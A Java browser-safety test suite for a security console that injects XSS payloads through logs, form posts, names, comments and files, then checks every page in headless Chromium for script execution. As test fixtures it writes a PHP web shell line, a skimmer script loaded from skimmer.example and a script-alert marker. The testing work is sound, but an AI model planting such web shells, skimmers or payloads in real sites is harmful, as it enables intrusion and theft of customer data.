package dev.mimamori.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.mimamori.incidents.oncall.AckLinks;
import dev.mimamori.model.Incident;
import dev.mimamori.pipeline.SourceSpec;
import dev.mimamori.server.notify.AckKey;
import dev.mimamori.store.TenantScope;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Real headless Chromium over every page of the console, after attacker data from the public XSS
 * corpus went in through every way it reaches the server (log lines: URL, User-Agent, referrer,
 * form body; file names and contents under a watched web root; user, tenant and site names;
 * comments; failed sign-ins). Each page is loaded twice in each language: with the console's CSP,
 * where any injected markup would show as a CSP violation, and with CSP bypassed, where only the
 * escaping stands between a payload and its execution. Skipped without Chromium; without the corpus
 * it feeds its own vectors (`XssCorpus.OWN`).
 */
class ConsoleBrowserSafetyTest {
  static final int PAYLOADS = 240;
  static final int SHOPS = 4;
  static final String MARKER = "<script>alert('mimamori-marker')</script>";
  static final List<String> LANGS = List.of("en", "ja");

  @TempDir static Path dir;
  static MimamoriRuntime rt;
  static TestHttp http;
  static ChromiumProbe chromium;
  static ControlPages control;
  static String origin;
  static String adminToken;
  static List<String> payloads;
  static final List<ChromiumProbe.Visit> VISITS = new ArrayList<>();
  static final List<String> PAGES_WALKED = new ArrayList<>();
  static final List<String> NOT_HTML = new ArrayList<>();
  static final List<Path> SCREENSHOT_DIRS = new ArrayList<>();

  @BeforeAll
  static void feedAttackerDataAndWalkTheConsole() throws Exception {
    assumeTrue(ChromiumProbe.available(), "Chromium or chromedriver not installed");
    Optional<Path> corpus = XssCorpus.find();
    long t0 = System.nanoTime();
    // Without the third-party corpus (a machine without ../shared), our own vectors still run.
    payloads = corpus.isPresent() ? XssCorpus.payloads(corpus.get(), PAYLOADS) : XssCorpus.OWN;
    assertThat(payloads)
        .as("payloads read from the corpus")
        .hasSizeGreaterThan(corpus.isPresent() ? 100 : 20);

    Path shop = dir.resolve("shop");
    Files.createDirectories(shop.resolve("html/user_data"));
    Files.writeString(shop.resolve("index.php"), "<?php require 'app.php';\n");
    List<SourceSpec> sources = new ArrayList<>();
    sources.add(
        new SourceSpec(
            ServerFixture.writeLog(dir), "combined", "shop-a", "furusato-shop.example.jp", true));
    Instant start = Instant.now().minus(2, ChronoUnit.HOURS).truncatedTo(ChronoUnit.MINUTES);
    for (int k = 0; k < SHOPS; k++) {
      List<String> lines = new ArrayList<>();
      if (k == 0) {
        lines.add(
            "192.0.2.99 - - [21/Nov/2026:10:02:20 +0900] \"GET /contact?name="
                + MARKER
                + " HTTP/1.1\" 200 19005 \"-\" \""
                + MARKER
                + "\"");
      }
      for (int i = k, j = 1; i < payloads.size(); i += SHOPS, j++) {
        lines.add(
            AttackerTraffic.combined("203.0.113." + j, start.plusSeconds(i), payloads.get(i)));
      }
      Path log = dir.resolve("xss-" + k + ".log");
      Files.write(log, lines, StandardCharsets.UTF_8);
      sources.add(new SourceSpec(log, "combined", "shop-a", "xss-shop-" + k + ".example.jp", true));
    }
    ServerConfig config =
        ServerConfig.of("127.0.0.1", 0, dir.resolve("data"), null, sources)
            .withFim(List.of(new ServerConfig.FimRoot(shop, "shop-a", "xss-files.example.jp")))
            .withSingleFactorAllowed(true);
    rt = MimamoriRuntime.start(config, Clock.systemUTC(), ServerFixture.ADMIN_PASSWORD);
    http = new TestHttp(rt.port());
    origin = "http://127.0.0.1:" + rt.port();
    adminToken = http.token("admin", ServerFixture.ADMIN_PASSWORD);

    writeFilesIntoTheWatchedShop(shop);
    pushFormPosts(start);
    nameThingsWithPayloads();
    settle();

    SCREENSHOT_DIRS.add(Path.of("target/screenshots"));
    String extra = System.getProperty("mimamori.screenshots.dir");
    if (extra != null && !extra.isBlank()) {
      SCREENSHOT_DIRS.add(Path.of(extra));
    }
    control = new ControlPages();
    chromium = ChromiumProbe.start(Files.createDirectories(dir.resolve("chromium-profile")));
    walkTheConsole();
    System.out.printf(
        "ConsoleBrowserSafetyTest: %d payloads, %d page loads, %d ms in all%n",
        payloads.size(), VISITS.size(), (System.nanoTime() - t0) / 1_000_000);
  }

  @AfterAll
  static void stop() {
    if (chromium != null) {
      chromium.close();
    }
    if (control != null) {
      control.close();
    }
    if (rt != null) {
      rt.close();
    }
  }

  /** Web shells whose names and contents are payloads, and a skimmer script. */
  static void writeFilesIntoTheWatchedShop(Path shop) throws Exception {
    Path fim = dir.resolve("data/fim");
    for (int i = 0; i < 200 && !hasBaseline(fim); i++) {
      Thread.sleep(50);
    }
    Thread.sleep(300);
    for (int i = 0; i < 8; i++) {
      String p = payloads.get(i * payloads.size() / 8);
      Files.writeString(
          shop.resolve("html/user_data").resolve(AttackerTraffic.fileName(p, i)),
          "<?php @eval($_POST['x']); ?>\n<!-- " + p + " -->\n" + p + "\n");
    }
    Files.writeString(
        shop.resolve("html/user_data/customize.js"),
        "document.write('<script src=\"https://skimmer.example/c.js\"></script>');\n"
            + "// "
            + MARKER
            + "\n");
  }

  /** Form posts with the payload in body, User-Agent and referrer, pushed over HTTP. */
  static void pushFormPosts(Instant start) {
    StringBuilder body = new StringBuilder();
    for (int i = 0, j = 1; i < payloads.size(); i += 4, j++) {
      body.append(
              AttackerTraffic.formPost("198.51.100." + j, start.plusSeconds(i), payloads.get(i)))
          .append('\n');
    }
    HttpResponse<String> r =
        http.send(
            http.request(
                    "/api/v1/ingest?tenant=shop-a&asset=xss-forms.example.jp&format=nginx-json")
                .header("Authorization", "Bearer " + adminToken)
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString(body.toString())));
    assertThat(r.statusCode()).as("push: " + r.body()).isEqualTo(200);
  }

  /** Users, a tenant and a site named with payloads; failed sign-ins with payload user names. */
  static void nameThingsWithPayloads() {
    List<String> shortOnes = payloads.stream().filter(p -> p.length() <= 100).limit(2).toList();
    for (String p : shortOnes) {
      post(
          "/api/v1/users",
          "{\"username\":"
              + json(p)
              + ",\"password\":\"payload-user-password-1\",\"role\":\"customer\",\"tenant\":\"shop-a\"}");
      assertThat(
              http.postJson(
                      "/api/v1/tokens",
                      "{\"username\":" + json(p + "x") + ",\"password\":\"wrong-password\"}")
                  .statusCode())
          .isEqualTo(401);
    }
    post("/api/v1/tenants", "{\"name\":" + json(MARKER) + "}");
    HttpResponse<String> site =
        http.sendJson(
            "POST",
            "/api/v1/tenants/shop-a/sites",
            "{\"name\":"
                + json(payloads.get(1))
                + ",\"urls\":[\"https://shop-a.example.jp/\"],\"platform\":\"ec-cube\",\"version\":\"4.2.3\"}",
            "Authorization",
            "Bearer " + adminToken);
    assertThat(site.statusCode()).isEqualTo(201);
    String siteId = TestHttp.json(site).get("id").asText();
    // A page monitor whose scripts, hosts and findings are attacker text (disabled: no browser).
    HttpResponse<String> monitor =
        http.sendJson(
            "POST",
            "/api/v1/sites/" + siteId + "/page-monitors",
            "{\"name\":"
                + json(payloads.get(2))
                + ",\"url\":\"https://shop-a.example.jp/shopping\",\"enabled\":false}",
            "Authorization",
            "Bearer " + adminToken);
    assertThat(monitor.statusCode()).as(monitor.body()).isEqualTo(201);
    String monitorId = TestHttp.json(monitor).get("id").asText();
    List<dev.mimamori.store.PageMonitorRepository.Seen> seen = new ArrayList<>();
    for (String p : payloads.subList(0, Math.min(6, payloads.size()))) {
      seen.add(new dev.mimamori.store.PageMonitorRepository.Seen(p, "ab" + seen.size(), p));
    }
    rt.store().pageMonitors().sawScripts("shop-a", monitorId, seen, Instant.now());
    var finding =
        TestHttp.JSON
            .createObjectNode()
            .put("severity", "critical")
            .put("kind", "sensitive_data_sent")
            .put("message", payloads.get(3));
    var result =
        TestHttp.JSON.createObjectNode().put("status", "findings").put("error", payloads.get(4));
    result.putArray("findings").add(finding);
    rt.store()
        .pageMonitors()
        .recordCheck(monitorId, Instant.now(), "findings", result.toString(), null);
  }

  static void post(String path, String body) {
    HttpResponse<String> r =
        http.sendJson("POST", path, body, "Authorization", "Bearer " + adminToken);
    assertThat(r.statusCode()).as(path + " " + r.body()).isEqualTo(201);
  }

  static String json(String s) {
    return TestHttp.JSON.valueToTree(s).toString();
  }

  /** Waits until every shop has its incident and the store holds still; then comments. */
  static void settle() throws Exception {
    long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
    long last = -1;
    while (true) {
      rt.pipeline().flush(Duration.ofSeconds(5));
      List<Incident> all = incidents();
      long alerts = all.stream().mapToLong(Incident::alertCount).sum();
      boolean everyShop =
          all.stream().map(Incident::asset).distinct().count() >= SHOPS + 3; // chain, forms, files
      if (everyShop && alerts == last) {
        break;
      }
      if (System.nanoTime() > deadline) {
        throw new AssertionError("the attacker data did not settle into incidents: " + all);
      }
      last = alerts;
      Thread.sleep(400);
    }
    for (Incident i : incidents()) {
      HttpResponse<String> r =
          http.sendJson(
              "POST",
              "/api/v1/incidents/" + i.id() + "/comments",
              "{\"text\":" + json(payloads.get(2) + " " + MARKER) + "}",
              "Authorization",
              "Bearer " + adminToken);
      assertThat(r.statusCode()).as("comment " + r.body()).isBetween(200, 201);
    }
  }

  static List<Incident> incidents() {
    return rt.store().incidents().list(TenantScope.allTenants(), null, 500, 0).items();
  }

  static boolean hasBaseline(Path fim) throws java.io.IOException {
    if (!Files.isDirectory(fim)) {
      return false;
    }
    try (var s = Files.walk(fim)) {
      return s.anyMatch(p -> p.getFileName().toString().equals("baseline.bin"));
    }
  }

  // ---- the walk ------------------------------------------------------------------------------

  /**
   * How to fill each path parameter of a console page, keyed by the route up to that parameter. A
   * GET page with a parameter not listed here fails the walk, so a new page is never skipped.
   */
  static Map<String, Supplier<List<String>>> pathValues() {
    Map<String, Supplier<List<String>>> m = new LinkedHashMap<>();
    m.put("/incidents/{id}", () -> incidents().stream().map(Incident::id).toList());
    m.put("/ack/{token}", ConsoleBrowserSafetyTest::ackTokens);
    m.put(
        "/alerts/{id}",
        () ->
            rt.store().incidents().alerts(TenantScope.allTenants(), null, 3, 0).items().stream()
                .map(a -> a.id())
                .toList());
    m.put("/tenants/{id}", () -> apiIds("/api/v1/tenants"));
    m.put("/sites/{id}", () -> apiIds("/api/v1/tenants/shop-a/sites"));
    m.put("/users/{id}", () -> apiIds("/api/v1/users"));
    m.put("/storefront/{id}", () -> apiIds("/api/v1/page-monitors"));
    m.put("/rules/{id}", () -> List.of("mm-web-xss-payload"));
    m.put(
        "/files/{id}",
        () ->
            rt
                .store()
                .incidents()
                .alertsOfRules(TenantScope.allTenants(), "mm-fim-", 4, 0)
                .items()
                .stream()
                .map(a -> a.id())
                .toList());
    return m;
  }

  static List<String> apiIds(String path) {
    var items =
        TestHttp.json(http.get(path, "Authorization", "Bearer " + adminToken)).path("items");
    List<String> out = new ArrayList<>();
    items.forEach(n -> out.add(n.path("id").asText()));
    return out.subList(0, Math.min(4, out.size()));
  }

  /** Real acknowledgement links, signed with the server's key as a page would carry them. */
  static List<String> ackTokens() {
    try {
      AckLinks links = new AckLinks(AckKey.load(dir.resolve("data"), null), Clock.systemUTC());
      return incidents().stream()
          .limit(1) // one page shows one incident's title: the same template for every token
          .map(i -> links.token(i.id(), "oncall-a", Instant.now().plus(1, ChronoUnit.HOURS)))
          .toList();
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  /** Every GET route that answers a browser: not the API, shippers' endpoints or static files. */
  static List<String> consolePageRoutes() {
    return rt.routes().stream()
        .filter(r -> r.startsWith("GET "))
        .map(r -> r.substring(4))
        .filter(
            p ->
                !p.startsWith("/api/")
                    && !p.startsWith("/_")
                    && !p.startsWith("/static/")
                    && !p.equals("/metrics")
                    && !p.equals("/healthz"))
        .toList();
  }

  static final Pattern PARAM = Pattern.compile("\\{([^}/]+)\\}");

  /** The concrete paths of a route: each parameter filled with every value known for it. */
  static List<String> fill(String route, Map<String, Supplier<List<String>>> values) {
    List<String> out = new ArrayList<>(List.of(route));
    Matcher m = PARAM.matcher(route);
    while (m.find()) {
      String key = route.substring(0, m.end());
      Supplier<List<String>> v = values.get(key);
      if (v == null) {
        throw new AssertionError(
            "GET "
                + route
                + ": the browser safety test does not know how to fill "
                + m.group()
                + "; add \""
                + key
                + "\" to ConsoleBrowserSafetyTest.pathValues() so this page is checked");
      }
      List<String> ids = v.get();
      if (ids.isEmpty()) {
        throw new AssertionError("GET " + route + ": no object to fill " + m.group() + " with");
      }
      List<String> next = new ArrayList<>();
      for (String partial : out) {
        for (String id : ids) {
          next.add(partial.replace(m.group(), URLEncoder.encode(id, StandardCharsets.UTF_8)));
        }
      }
      out = next;
    }
    return out;
  }

  static void walkTheConsole() throws Exception {
    for (String lang : LANGS) {
      ChromiumProbe.Visit v = chromium.visit(origin + "/login?lang=" + lang, origin, true);
      VISITS.add(v);
      chromium.screenshot("login-" + lang, 900, SCREENSHOT_DIRS);
    }
    for (String p : payloads.stream().filter(p -> p.length() <= 100).limit(2).toList()) {
      VISITS.add(failedLogin(p));
    }
    logIn();

    Map<String, Supplier<List<String>>> values = pathValues();
    String chain = incidentOf("furusato-shop.example.jp");
    String marked = incidentOf("xss-shop-0.example.jp");
    for (String route : consolePageRoutes()) {
      for (String path : fill(route, values)) {
        if (!servesHtml(path)) {
          NOT_HTML.add(route);
          continue;
        }
        PAGES_WALKED.add(route);
        for (String lang : LANGS) {
          String url = origin + path + (path.contains("?") ? "&" : "?") + "lang=" + lang;
          VISITS.add(chromium.visit(url, origin, true));
          screenshotIfMain(route, path, lang, chain, marked);
          if (lang.equals("en")) { // the payloads are the same in either language
            VISITS.add(chromium.visit(url, origin, false));
          }
        }
      }
    }
    chromium.phone();
    try {
      for (String lang : LANGS) {
        VISITS.add(chromium.visit(origin + "/incidents/" + chain + "?lang=" + lang, origin, true));
        chromium.screenshot("incident-phone-" + lang, 1700, SCREENSHOT_DIRS);
      }
    } finally {
      chromium.desktop();
    }
  }

  static void screenshotIfMain(String route, String path, String lang, String chain, String marked)
      throws Exception {
    String name = null;
    if (!route.contains("{") && !route.equals("/") && !route.equals("/login")) {
      name = route.substring(1).replaceAll("[^A-Za-z0-9]+", "-");
    } else if (path.equals("/incidents/" + chain)) {
      name = "incident";
    } else if (path.equals("/incidents/" + marked)) {
      name = "incident-payloads";
    }
    if (name != null) {
      chromium.screenshot(name.toLowerCase(Locale.ROOT) + "-" + lang, 2400, SCREENSHOT_DIRS);
    }
  }

  static String incidentOf(String asset) {
    return incidents().stream()
        .filter(i -> i.asset().equals(asset))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no incident on " + asset))
        .id();
  }

  /** Whether the page is HTML for the signed-in browser (an export or a PDF is not walked). */
  static boolean servesHtml(String path) {
    StringBuilder cookies = new StringBuilder();
    for (Cookie c : chromium.driver().manage().getCookies()) {
      cookies.append(c.getName()).append('=').append(c.getValue()).append("; ");
    }
    HttpResponse<String> r = http.get(path, "Cookie", cookies.toString(), "Accept", "text/html");
    String type = r.headers().firstValue("Content-Type").orElse("");
    return r.statusCode() / 100 == 3 || type.startsWith("text/html");
  }

  static ChromiumProbe.Visit failedLogin(String username) {
    var d = chromium.driver();
    chromium.visit(origin + "/login?lang=en", origin, true);
    chromium.prepare(true);
    d.findElement(By.name("username")).sendKeys(username);
    d.findElement(By.name("password")).sendKeys("wrong-password");
    d.findElement(By.cssSelector("form[action='/login'] button[type=submit]")).click();
    new WebDriverWait(d, Duration.ofSeconds(10))
        .until(ExpectedConditions.presenceOfElementLocated(By.cssSelector(".error")));
    return chromium.inspect("POST /login as " + username, origin, true);
  }

  static void logIn() {
    var d = chromium.driver();
    chromium.visit(origin + "/login?lang=en", origin, true);
    d.findElement(By.name("username")).sendKeys("admin");
    d.findElement(By.name("password")).sendKeys(ServerFixture.ADMIN_PASSWORD);
    d.findElement(By.cssSelector("form[action='/login'] button[type=submit]")).click();
    new WebDriverWait(d, Duration.ofSeconds(10))
        .until(ExpectedConditions.not(ExpectedConditions.urlContains("/login")));
  }

  static String problems(java.util.function.Function<ChromiumProbe.Visit, List<String>> what) {
    StringBuilder b = new StringBuilder();
    for (ChromiumProbe.Visit v : VISITS) {
      for (String p : what.apply(v)) {
        b.append("\n  ").append(v.where()).append(": ").append(p);
      }
    }
    return b.toString();
  }

  // ---- what the walk must show ---------------------------------------------------------------

  @Test
  void noPageOpensADialogWithOrWithoutItsCsp() {
    assertThat(problems(ChromiumProbe.Visit::dialogs)).as("dialogs opened").isEmpty();
  }

  @Test
  void noPageEvaluatesAString() {
    assertThat(problems(ChromiumProbe.Visit::evals)).as("strings evaluated").isEmpty();
  }

  @Test
  void noPageBreaksTheContentSecurityPolicy() {
    assertThat(problems(ChromiumProbe.Visit::violations)).as("CSP violations").isEmpty();
  }

  @Test
  void noPageSendsARequestToAnotherHost() {
    assertThat(problems(ChromiumProbe.Visit::foreignRequests)).as("foreign requests").isEmpty();
  }

  @Test
  void noPageHoldsScriptHandlersScriptUrlsOrLinksToAttackerHosts() {
    assertThat(problems(ChromiumProbe.Visit::dom)).as("dangerous markup").isEmpty();
  }

  @Test
  void everyVisitWasSeenByTheRequestLog() {
    assertThat(problems(v -> v.requests().isEmpty() ? List.of("no request seen") : List.of()))
        .isEmpty();
  }

  @Test
  void walksEveryGetPageOfTheConsoleThatIsHtml() {
    List<String> seen = new ArrayList<>(PAGES_WALKED);
    seen.addAll(NOT_HTML);

    assertThat(seen)
        .as("walked " + PAGES_WALKED + ", not HTML " + NOT_HTML)
        .containsAll(consolePageRoutes());
    assertThat(PAGES_WALKED).contains("/login", "/incidents", "/incidents/{id}", "/ack/{token}");
  }

  @Test
  void showsTheAttackersScriptAsTextOnTheIncidentPage() {
    assertThat(VISITS)
        .filteredOn(
            v ->
                v.url()
                    .replaceFirst("\\?.*", "")
                    .endsWith("/incidents/" + incidentOf("xss-shop-0.example.jp")))
        .allSatisfy(v -> assertThat(v.text()).contains(MARKER));
  }

  /**
   * How a payload can appear on a page: as it was sent, or inside the raw log line that carried it
   * (quotes escaped as the server or the shipper escaped them, or percent-encoded in the URL).
   */
  static List<String> shownForms(String p) {
    String json = json(p);
    return List.of(
        p.strip().replaceAll("\\s+", " "),
        AttackerTraffic.quoted(p),
        json.substring(1, json.length() - 1),
        URLEncoder.encode(p, StandardCharsets.UTF_8));
  }

  @Test
  void showsNearlyEveryCorpusPayloadOnSomePage() {
    String all = String.join("\n", VISITS.stream().map(ChromiumProbe.Visit::text).toList());
    List<String> missing =
        payloads.stream().filter(p -> shownForms(p).stream().noneMatch(all::contains)).toList();
    long shown = payloads.size() - missing.size();
    assertThat(shown)
        .as(
            shown
                + " of "
                + payloads.size()
                + " payloads shown; not: "
                + String.join("\n", missing))
        .isGreaterThan(payloads.size() * 9 / 10);
  }

  @Test
  void savesScreenshotsOfTheMainPages() throws Exception {
    for (String name :
        List.of(
            "login-en",
            "login-ja",
            "incidents-en",
            "incidents-ja",
            "incident-en",
            "incident-ja",
            "incident-phone-ja")) {
      byte[] png = Files.readAllBytes(SCREENSHOT_DIRS.get(0).resolve(name + ".png"));
      assertThat(png).as(name).startsWith(0x89, 'P', 'N', 'G');
    }
  }

  // ---- positive controls: the probe sees what it looks for -----------------------------------

  @Test
  void theProbeSeesTheDialogOfAPageWithoutDefences() {
    ChromiumProbe.Visit v = chromium.visit(control.origin() + "/unsafe", control.origin(), true);

    assertThat(v.dialogs()).containsExactly("alert(1)");
  }

  @Test
  void theProbeSeesACspViolation() {
    ChromiumProbe.Visit v = chromium.visit(control.origin() + "/csp", control.origin(), true);

    assertThat(v.violations()).anyMatch(s -> s.startsWith("script-src-elem"));
  }

  @Test
  void theProbeSeesTheScriptACspWouldHaveStoppedWhenTheCspIsBypassed() {
    ChromiumProbe.Visit v = chromium.visit(control.origin() + "/csp", control.origin(), false);

    assertThat(v.dialogs()).containsExactly("alert(2)");
  }

  @Test
  void theProbeSeesARequestToAnotherHost() {
    ChromiumProbe.Visit v = chromium.visit(control.origin() + "/foreign", control.origin(), true);

    assertThat(v.foreignRequests()).containsExactly("http://attacker.example/pixel.png");
  }

  @Test
  void theProbeSeesAHandlerAttributeAndALinkToAnotherHost() {
    ChromiumProbe.Visit v = chromium.visit(control.origin() + "/dom", control.origin(), true);

    assertThat(v.dom()).hasSize(2);
  }
}
